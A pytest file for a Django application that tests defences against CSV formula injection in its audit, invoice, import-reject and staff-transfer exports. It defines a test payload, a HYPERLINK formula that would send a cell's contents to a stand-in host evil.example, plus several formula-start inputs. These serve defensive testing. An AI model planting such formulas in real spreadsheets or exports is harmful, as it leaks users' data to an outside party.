"""Every CSV flexhub writes goes through core.csvexport, so none can let a spreadsheet run a cell
as a formula (issue 13). Cross-app: the audit log (core), invoices (billing), import rejects
and the TUPE register (directory)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from flexhub.billing.models import Invoice, InvoiceLine
from flexhub.core.audit import Actor
from flexhub.core.csvexport import cell_text, csv_text
from flexhub.core.services import organisation_save
from flexhub.directory.models import StaffMember
from flexhub.directory.services import staff_import, tupe_transfer_many

SRC = Path(__file__).resolve().parents[1] / "src" / "flexhub"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def login(world, username):
    client = Client()
    client.force_login(world.users[username])
    return client


def table(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_no_module_writes_csv_but_the_one_writer():
    """A new export cannot forget the formula rule: only core/csvexport.py may use the csv
    writer or answer text/csv."""
    writer = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "tests" not in path.parts and path.name != "csvexport.py" and writer.search(path.read_text())
    ]
    assert offenders == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_run_gets_an_apostrophe(start):
    assert cell_text(f"{start}1+1") == f"'{start}1+1"


def test_numbers_stay_numbers_so_a_credit_stays_readable():
    assert cell_text(Decimal("-12.50")) == "-12.50"
    assert cell_text(-3) == "-3"
    assert cell_text("-12.50") == "'-12.50"  # text that looks like a number is still text
    assert csv_text(["amount"], [[Decimal("-116.71")]]) == "\ufeffamount\r\n-116.71\r\n"


@pytest.mark.django_db
def test_the_audit_export_neutralises_what_users_typed(world):
    org = world.orgs["MBRA"]
    organisation_save(actor=Actor.for_cli(), code=org.code, name=FORMULA, roles=org.roles)
    rows = table(login(world, "aauth-admin").get(reverse("audit-csv"), {"object_type": "core.organisation"}))
    header, body = rows[0], rows[1:]
    objects = [row[header.index("object")] for row in body]
    assert any(o.startswith("'" + FORMULA) for o in objects)
    assert not any(cell.startswith(("=", "+", "@")) for row in body for cell in row)


@pytest.mark.django_db
def test_the_invoice_export_neutralises_text_and_keeps_a_credit_as_a_number(world):
    invoice = Invoice.objects.filter(member__code="MBRA", status="draft").first()
    InvoiceLine.objects.create(
        invoice=invoice, seq=999, kind="credit", priority="P2", explanation=FORMULA, amount=Decimal("-12.50")
    )
    rows = table(login(world, "mbra-admin").get(reverse("invoice-csv", kwargs={"pk": invoice.pk})))
    header = rows[0]
    credit = next(row for row in rows if row[header.index("kind")] == "credit")
    assert credit[header.index("amount")] == "-12.50"
    assert credit[header.index("explanation")] == "'" + FORMULA


@pytest.mark.django_db
def test_the_rejects_export_neutralises_the_rows_it_gives_back(world):
    client = login(world, "mbra-admin")
    text = io.StringIO()
    lines = csv.writer(text)
    lines.writerow(["name", "email", "unit", "site", "grade", "start_date", "leave_date", "predecessor"])
    lines.writerow([FORMULA, "not-an-email", "@SUM(1+1)", "-2+3", "", "", "", ""])
    upload = io.BytesIO(text.getvalue().encode())
    upload.name = "bad.csv"
    response = client.post(
        reverse("staff-import"), {"organisation": world.orgs["MBRA"].pk, "file": upload}, follow=True
    )
    rows = table(client.get(reverse("import-rejects", kwargs={"pk": response.context["staged"].pk})))
    assert rows[1][:2] == ["2", "email"]
    assert rows[1][3:7] == ["'" + FORMULA, "not-an-email", "'@SUM(1+1)", "'-2+3"]


@pytest.mark.django_db
def test_the_tupe_register_export_neutralises_names_and_notes(world):
    text = io.StringIO()
    lines = csv.writer(text)
    lines.writerow(["name", "email", "unit", "site", "grade", "start_date", "leave_date", "predecessor"])
    lines.writerow([FORMULA, "odd@mbra.gov.uk", "+Unit", "@Site", "", "", "", ""])
    content = text.getvalue().encode()
    staff_import(actor=Actor.for_cli(), organisation=world.orgs["MBRA"], open_file=lambda: io.BytesIO(content))
    tupe_transfer_many(
        actor=Actor.for_cli(),
        member=world.orgs["MBRA"],
        staff=[StaffMember.objects.get(email="odd@mbra.gov.uk")],
        to_supplier=world.orgs["SUPA"],
        transfer_date=dt.date(2021, 6, 1),
        terms_protected=False,
        note="-1 day's notice",
    )
    rows = table(login(world, "mbra-admin").get(reverse("tupe-csv"), {"supplier": "SUPA"}))
    header = rows[0]
    odd = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[1] == "odd@mbra.gov.uk")
    assert (odd["person"], odd["unit"], odd["site"], odd["note"]) == (
        "'" + FORMULA,
        "'+Unit",
        "'@Site",
        "'-1 day's notice",
    )
    assert (odd["transfer_date"], odd["terms_protected"]) == ("2021-06-01", "false")
